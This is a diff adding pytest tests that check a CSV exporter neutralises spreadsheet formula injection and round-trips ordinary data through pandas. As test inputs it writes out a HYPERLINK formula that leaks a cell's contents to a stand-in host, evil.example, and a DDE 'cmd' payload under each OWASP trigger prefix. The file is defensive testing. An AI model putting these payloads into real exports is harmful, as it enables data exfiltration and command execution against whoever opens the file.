@@ -1,0 +1,105 @@
+"""Safe CSV export: formula injection neutralised, everything else round-trips through pandas."""
+
+from __future__ import annotations
+
+import io
+import os
+
+import pandas as pd
+import pytest
+
+from memprobe_core.export import ExportError, neutralize_cell, to_safe_csv, write_safe_csv
+
+ORDINARY = [
+    "plain text",
+    "commas, inside, a cell",
+    'double "quotes" and \'single\' ones',
+    "a newline\nand another\r\nline",
+    "Café 東京 — naïve ünïcödé ✓ 🙂",
+    "trailing spaces   ",
+    "mid=dle + plus - minus @ at",
+]
+
+
+def read_back(data: bytes) -> pd.DataFrame:
+    return pd.read_csv(io.BytesIO(data), keep_default_na=False)
+
+
+def test_hyperlink_formula_is_neutralised():
+    evil = '=HYPERLINK("http://evil.example/?leak="&A1, "click me")'
+    frame = pd.DataFrame({"snippet_id": ["s1"], "output": [evil], "mem": [0.5]})
+    data = to_safe_csv(frame)
+    back = read_back(data)
+    assert back.loc[0, "output"] == "'" + evil
+    assert b"\n=HYPERLINK" not in data and b",=HYPERLINK" not in data
+    assert back.loc[0, "mem"] == 0.5
+
+
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_owasp_prefix_is_neutralised(prefix):
+    cell = prefix + "cmd|' /C calc'!A0"
+    back = read_back(to_safe_csv(pd.DataFrame({"x": [cell]})))
+    assert back.loc[0, "x"] == "'" + cell
+
+
+def test_ordinary_text_round_trips_unchanged():
+    frame = pd.DataFrame({
+        "text": ORDINARY,
+        "n": list(range(len(ORDINARY))),
+        "score": [0.125, -0.25, 1.0, 0.0, -3.5, 2.0, 0.5],
+    })
+    data = to_safe_csv(frame)
+    assert data.decode("utf-8").count("text,n,score") == 1  # one header row
+    assert not data.startswith(b"\xef\xbb\xbf")  # UTF-8 without BOM
+    back = read_back(data)
+    # Newlines inside cells survive; CRLF inside a cell is kept as written.
+    pd.testing.assert_frame_equal(back, frame, check_dtype=False)
+    assert back["n"].dtype.kind == "i" and back["score"].dtype.kind == "f"
+
+
+def test_numbers_stay_numbers_strings_that_look_like_formulas_do_not():
+    assert neutralize_cell(-0.25) == -0.25  # a negative number is not text
+    assert neutralize_cell(-3) == -3
+    assert neutralize_cell(True) is True
+    assert neutralize_cell(None) is None
+    assert neutralize_cell("-0.25") == "'-0.25"  # as text it would be evaluated
+    assert neutralize_cell(["=x"]) == ["=x"]  # str(["=x"]) starts with "[": harmless
+    frame = pd.DataFrame({"delta": [-0.5, 0.25]})
+    assert to_safe_csv(frame).decode() == "delta\r\n-0.5\r\n0.25\r\n"
+
+
+def test_column_names_are_neutralised_too():
+    back = read_back(to_safe_csv(pd.DataFrame({"=cmd": [1]})))
+    assert list(back.columns) == ["'=cmd"]
+
+
+def test_missing_values_stay_missing():
+    frame = pd.DataFrame({"a": ["x", None], "b": [1.0, float("nan")]})
+    back = pd.read_csv(io.BytesIO(to_safe_csv(frame)))
+    assert back["a"].isna().tolist() == [False, True] and back["b"].isna().tolist() == [False, True]
+
+
+def test_write_safe_csv(tmp_path):
+    frame = pd.DataFrame({"t": ["=1+1", "ok"]})
+    path = write_safe_csv(frame, tmp_path / "out.csv")
+    assert read_back(path.read_bytes())["t"].tolist() == ["'=1+1", "ok"]
+
+
+def test_unwritable_paths_give_clear_errors(tmp_path):
+    frame = pd.DataFrame({"t": ["x"]})
+    with pytest.raises(ExportError, match="does not exist; create it"):
+        write_safe_csv(frame, tmp_path / "no" / "such" / "dir" / "out.csv")
+    with pytest.raises(ExportError, match="is a folder"):
+        write_safe_csv(frame, tmp_path)
+    locked = tmp_path / "locked"
+    locked.mkdir()
+    locked.chmod(0o500)
+    try:
+        if os.access(locked, os.W_OK):  # root ignores permissions: use a path under /proc
+            target = "/proc/version/out.csv"
+        else:
+            target = locked / "out.csv"
+        with pytest.raises(ExportError, match="cannot write CSV"):
+            write_safe_csv(frame, target)
+    finally:
+        locked.chmod(0o700)
